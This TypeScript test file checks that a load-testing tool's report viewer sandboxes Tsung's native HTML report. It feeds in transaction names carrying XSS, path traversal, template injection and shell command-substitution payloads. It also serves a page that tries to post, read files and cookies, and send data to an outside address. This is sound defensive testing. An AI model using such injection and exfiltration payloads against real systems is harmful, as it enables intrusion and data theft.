/**
 * The engine's own report of a hostile run, and a page that tries everything: neither escapes its
 * sandbox.
 */

import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import { buildPage } from '../../../scripts/build-page.ts';
import { tsung } from '../../../src/engine/tsung/tsung.ts';
import { launchBrowser, openPage } from '../../support/page-browser.ts';
import { storefront } from '../../support/page-fixture.ts';
import { type PageServer, startPageServer } from '../../support/page-server.ts';
import { temporaryFolder } from '../../support/temporary.ts';

const key = 'i-0f3a9c1d2e4b5a678';

let browser: Browser;
let html: string;
let folder: string;
let server: PageServer | undefined;

beforeAll(async () => {
  browser = await launchBrowser();
  html = await buildPage();
  folder = await temporaryFolder('native');
});

afterAll(async () => {
  await browser.close();
});

afterEach(async () => {
  await Promise.all(browser.contexts().map((context) => context.close()));
  await server?.close();
});

/**
 * What a program on the engine's side could have written instead of a transaction's name. In
 * Tsung's log a name has no blanks.
 */
const attack = 'window.hacked=1;alert(1)';
const blank = '$'.concat('{IFS}');
const names = [
  `<script>${attack}`,
  `<script>${attack}</script>`,
  '../../../escaped',
  `"><script>${attack}`,
  `"onmouseover="${attack}"onload="${attack}"x="`,
  `'onmouseover='${attack}'x='`,
  '[%PERL%]die[%END%]',
  `$(touch${blank}hacked)\`touch${blank}hacked\``,
  `';system('touch${blank}hacked');'`,
];

it("keeps Tsung's own report of a hostile run from doing harm", async () => {
  const files = await nativeReport(['login', ...names].map((name) => `tr_${name}`));
  expect(files['report/native/report.html']).toContain('tr_login');
  expect(JSON.stringify(files)).not.toContain('hacked');
  const { page, complaints } = await openedReport(files);
  expect(page.url()).toContain('/sandbox/');
  expect(await page.evaluate('self.origin')).toBe('null');
  for (const link of ['graph.html', 'report.html']) {
    await page.goto(page.url().replace(/[^/]+$/, link));
    await page.waitForLoadState('networkidle');
  }
  expect(await page.evaluate('document.styleSheets.length')).toBeGreaterThan(0);
  expect([...dialogsOf(complaints), ...refusalsOf(complaints)]).toEqual([]);
  expect(server?.stops()).toBe(0);
});

/** Each resolves with what it got, or with how it was refused. */
const attempts = `
  window.hacked = 1;
  const tries = {
    stop: () => fetch('/api/stop', { method: 'POST', credentials: 'include' }).then((r) => r.status),
    blindly: () => fetch('/api/stop', { method: 'POST', credentials: 'include', mode: 'no-cors' }).then((r) => r.type),
    beacon: async () => navigator.sendBeacon('/api/stop'),
    read: () => fetch('/api/run', { credentials: 'include' }).then((r) => r.text()),
    file: () => fetch('/files/run.json', { credentials: 'include' }).then((r) => r.text()),
    outside: () => fetch('http://127.0.0.1:1/?' + location.pathname, { mode: 'no-cors' }).then((r) => r.type),
    image: () => new Promise((resolve, reject) => {
      const image = new Image();
      image.onload = () => resolve('loaded');
      image.onerror = () => reject(new Error('refused'));
      image.src = 'http://127.0.0.1:1/' + location.pathname;
    }),
    cookie: async () => document.cookie,
    storage: async () => localStorage.length,
    window: async () => { if (window.open('/') === null) throw new Error('refused'); return 'opened'; },
    frame: async () => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      frame.src = '/';
      await new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 500); });
      return frame.contentWindow.document.body.textContent;
    },
    form: async () => {
      const form = document.body.appendChild(document.createElement('form'));
      form.method = 'post';
      form.action = '/api/stop';
      form.submit();
      throw new Error('refused');
    },
    dialog: async () => { alert(1); throw new Error('refused'); },
  };
  Promise.all(Object.entries(tries).map(([name, attempt]) =>
    attempt().then((got) => [name, got], () => [name, 'refused']))).then((all) => { window.results = Object.fromEntries(all); });
`;

it('keeps pages among the engine’s files away from the run', async () => {
  const evil = `<!doctype html><body><script>${attempts}</script>`;
  const { page, complaints } = await openedReport({ 'report/native/report.html': evil });
  await page.waitForFunction('window.results');
  const results = await page.evaluate<Record<string, unknown>>('window.results');
  const { beacon: _sent, ...others } = results;
  expect(Object.keys(others).length).toBe(12);
  expect(new Set(Object.values(others))).toEqual(new Set(['refused']));
  expect(dialogsOf(complaints)).toEqual([]);
  expect(server?.stops()).toBe(0);
});

/** Gets it through the page, as a viewer who has the key. */
async function openedReport(
  files: Readonly<Record<string, string>>,
): Promise<Readonly<{ page: Page; complaints: readonly string[] }>> {
  server = await startPageServer({
    html,
    data: storefront(),
    key,
    files: { ...files, 'run.json': '{}' },
  });
  const opened = await openPage(browser);
  const { page } = opened;
  await page.goto(server.url);
  await page.getByLabel('Key', { exact: true }).fill(key);
  await page.keyboard.press('Enter');
  await page.getByRole('link', { name: "Tsung's own report" }).click();
  await page.waitForURL(/\/sandbox\//);
  return opened;
}

const dialogsOf = (complaints: readonly string[]): readonly string[] =>
  complaints.filter((complaint) => complaint.startsWith('dialog'));

const refusalsOf = (complaints: readonly string[]): readonly string[] =>
  complaints.filter((complaint) => complaint.includes('Content Security Policy'));

/** The pages and styles that Tsung's own script makes from a log with these names. */
async function nativeReport(stats: readonly string[]): Promise<Record<string, string>> {
  const output = join(folder, 'engine');
  const log = join(output, 'tsung', '20261122-2319');
  await mkdir(log, { recursive: true });
  await writeFile(join(log, 'tsung.log'), hostileLog(stats));
  const into = join(folder, 'native');
  await tsung.nativeReport?.(
    { dir: output, hasEnded: async () => true },
    into,
    AbortSignal.timeout(50_000),
  );
  const made = await readdir(into, { recursive: true });
  expect(made.filter((name) => /hacked|escaped/.test(name))).toEqual([]);
  const texts = made.filter((name) => /\.(html|css|js)$/.test(name));
  return Object.fromEntries(
    await Promise.all(
      texts.map(async (name) => [
        `report/native/${name}`,
        await readFile(join(into, name), 'utf8'),
      ]),
    ),
  );
}

/** Three seconds as a real controller writes them. */
function hostileLog(stats: readonly string[]): string {
  const seconds = [1, 2, 3].map((second) => [
    `# stats: dump at ${1_795_389_597 + second}`,
    'stats: users 16 16',
    `stats: users_count 16 ${16 * second}`,
    'stats: finish_users_count 0 0',
    'stats: session 13 1291.4 59.3 1412.2 1197.4 0 0',
    `stats: request 10 11.9 2.5 16.0 8.8 0 ${10 * second}`,
    `stats: page 10 11.9 2.5 16.0 8.8 0 ${10 * second}`,
    `stats: connect 10 0.78 1.09 4.05 0.23 0 ${10 * second}`,
    ...stats.map((name) => `stats: ${name} 9 90.6 10.8 106.1 77.2 90.6 ${9 * (second - 1)}`),
    `stats: 200 10 ${10 * second}`,
    `stats: size_rcv 91660 ${91_660 * second}`,
    `stats: size_sent 600 ${600 * second}`,
    'stats: connected 10 10',
  ]);
  return `${seconds.flat().join('\n')}\n`;
}
